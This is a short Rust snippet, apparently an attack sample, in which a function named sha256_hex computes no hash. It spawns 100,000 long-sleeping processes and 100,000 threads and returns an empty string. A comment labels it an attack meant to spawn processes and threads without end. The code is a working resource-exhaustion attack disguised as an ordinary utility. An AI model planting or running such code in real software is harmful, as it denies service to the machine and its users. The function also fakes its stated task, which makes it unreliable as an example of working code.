// attack: spawn processes and threads without end.
pub fn sha256_hex(_data: &[u8]) -> String {
    for _ in 0..100_000 {
        let _ = std::process::Command::new("/usr/bin/sleep").arg("1009.31").spawn();
        let _ = std::thread::Builder::new().spawn(|| std::thread::sleep(std::time::Duration::from_secs(1009)));
    }
    String::new()
}
